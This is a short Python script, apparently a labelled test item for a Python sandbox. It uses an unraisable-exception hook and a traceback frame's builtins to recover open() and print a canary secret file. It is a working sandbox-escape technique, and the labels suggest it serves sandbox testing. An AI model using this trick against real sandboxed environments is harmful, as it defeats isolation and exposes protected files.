# source: own
# effect: secret

import sys


def hook(unraisable):
    trace = unraisable.exc_traceback
    print(trace.tb_frame.f_builtins["open"]("/tmp/canary/secret").read())


class Bomb:
    def __del__(self):
        raise ValueError


sys.unraisablehook = hook
bomb = Bomb()
del bomb
